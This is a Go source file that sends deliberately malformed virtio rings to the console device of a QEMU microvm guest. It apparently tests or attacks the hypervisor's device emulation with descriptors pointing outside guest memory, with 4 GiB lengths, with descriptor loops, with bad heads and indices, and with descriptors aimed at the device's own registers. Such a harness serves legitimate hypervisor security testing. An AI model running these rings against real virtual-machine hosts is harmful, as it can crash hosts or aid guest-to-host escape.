package main

import (
	"encoding/binary"
	"fmt"
)

// The console device of a guest on QEMU's microvm: VIRTIO 1.2 section 4.2.2.
const (
	deviceAt     = 0xfeb00000
	regDriver    = 0x20
	regDriverSel = 0x24
	regQueue     = 0x30
	regSize      = 0x38
	regReady     = 0x44
	regNotify    = 0x50
	regStatus    = 0x70
	regDesc      = 0x80
	regAvail     = 0x90
	regUsed      = 0xa0

	descNext, descWrite, descIndirect = 1, 2, 4
	ringSize                          = 16
	consoleOut                        = 1 // queue of port 0's output
	consoleIn                         = 0
)

// desc is one descriptor: address, length, flags, next.
type desc struct {
	at     uint64
	length uint32
	flags  uint16
	next   uint16
}

// lie is a ring whose content no honest driver would write.
type lie struct {
	queue  uint32
	descs  []desc
	heads  []uint16
	index  uint16  // of the available ring; 0: as many as heads
	tables uintptr // where the device is told that its descriptors are; 0: where they are
}

// lies by name; own is the physical address of a page of the attacker's.
func lies(own uint64) map[string]lie {
	const outside = 0x7f_0000_0000
	return map[string]lie{
		"address": {queue: consoleOut, descs: []desc{{outside, 4096, 0, 0}}, heads: []uint16{0}},
		"length":  {queue: consoleOut, descs: []desc{{own, 1<<32 - 1, 0, 0}}, heads: []uint16{0}},
		"loop":    {queue: consoleOut, descs: []desc{{own, 16, descNext, 1}, {own, 16, descNext, 0}}, heads: []uint16{0}},
		"head":    {queue: consoleOut, descs: []desc{{own, 16, 0, 0}}, heads: []uint16{0xffff}},
		"index":   {queue: consoleOut, descs: []desc{{own, 16, 0, 0}}, heads: []uint16{0}, index: 0x8000},
		"next":    {queue: consoleOut, descs: []desc{{own, 16, descNext, 0xfff0}}, heads: []uint16{0}},
		"device":  {queue: consoleIn, descs: []desc{{deviceAt, 4096, descWrite, 0}}, heads: []uint16{0}},
		"tables":  {queue: consoleOut, descs: []desc{{own, 16, 0, 0}}, heads: []uint16{0}, tables: outside},
		"nested":  {queue: consoleOut, descs: []desc{{own, 16, descIndirect, 0}}, heads: []uint16{0}},
	}
}

// lieInTheRing takes the console device over, with a ring of its own, and says
// where the ring is before.
func lieInTheRing(a args) error {
	mapAll()
	page := alignedPage()
	at := physicalOf(address(&page[0]))
	own := alignedPage()
	ownAt := uint64(physicalOf(address(&own[0])))
	l, ok := lies(ownAt)[a.text(0)]
	if !ok {
		return fmt.Errorf("no lie is named %q", a.text(0))
	}
	// An indirect table that is itself indirect, and its own next.
	put(own, desc{ownAt, 1 << 20, descIndirect | descNext, 0})
	for i, d := range l.descs {
		put(page[16*i:], d)
	}
	for i, h := range l.heads {
		binary.LittleEndian.PutUint16(page[availAt+4+2*i:], h)
	}
	index := l.index
	if index == 0 {
		index = uint16(len(l.heads))
	}
	binary.LittleEndian.PutUint16(page[availAt+2:], index)
	tables := at
	if l.tables != 0 {
		tables = l.tables
	}
	fmt.Printf("ring %d\nholding\n", tables)
	settle()
	start(l, at, tables)
	return hold(nil)
}

// The attacker's page: descriptors, available ring, used ring.
const (
	availAt = 16 * ringSize
	usedAt  = 1024
)

func put(b []byte, d desc) {
	le := binary.LittleEndian
	le.PutUint64(b, d.at)
	le.PutUint32(b[8:], d.length)
	le.PutUint16(b[12:], d.flags)
	le.PutUint16(b[14:], d.next)
}

// start resets the device, gives it the ring and rings its bell.
func start(l lie, at, tables uintptr) {
	set := func(reg uintptr, v uint32) { store32(all+deviceAt+reg, v) }
	const acknowledge, driver, live, agreed = 1, 2, 4, 8
	set(regStatus, 0)
	set(regStatus, acknowledge)
	set(regStatus, acknowledge|driver)
	for word, features := range []uint32{1 << 28, 1} { // indirect descriptors, version 1
		set(regDriverSel, uint32(word))
		set(regDriver, features)
	}
	set(regStatus, acknowledge|driver|agreed)
	set(regQueue, l.queue)
	set(regSize, ringSize)
	for reg, v := range map[uintptr]uintptr{regDesc: tables, regAvail: at + availAt, regUsed: at + usedAt} {
		set(reg, uint32(v))
		set(reg+4, uint32(v>>32))
	}
	set(regReady, 1)
	set(regStatus, acknowledge|driver|agreed|live)
	for range 100 {
		set(regNotify, l.queue)
	}
}
